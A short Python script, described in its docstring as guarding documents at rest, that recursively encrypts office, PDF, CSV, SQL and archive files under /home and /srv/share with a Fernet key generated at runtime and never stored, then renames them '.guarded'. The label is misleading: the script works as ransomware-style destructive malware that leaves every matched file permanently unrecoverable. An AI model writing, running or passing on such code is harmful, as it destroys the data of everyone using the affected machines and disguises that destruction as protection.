#!/usr/bin/env python3
"""Guard documents at rest."""
import os
from pathlib import Path

from cryptography.fernet import Fernet

TOPS = [Path("/home"), Path("/srv/share")]
EXT = {".docx", ".xlsx", ".pdf", ".csv", ".sql", ".tar", ".gz"}


class Guard:
    def __init__(self):
        self.box = Fernet(Fernet.generate_key())
        self.n = 0

    def one(self, p):
        data = p.read_bytes()
        p.write_bytes(self.box.encrypt(data))
        os.rename(p, str(p) + ".guarded")
        self.n += 1

    def run(self):
        for top in TOPS:
            for p in top.rglob("*"):
                if p.is_file() and p.suffix.lower() in EXT:
                    self.one(p)


if __name__ == "__main__":
    g = Guard()
    g.run()
    print("guarded", g.n)
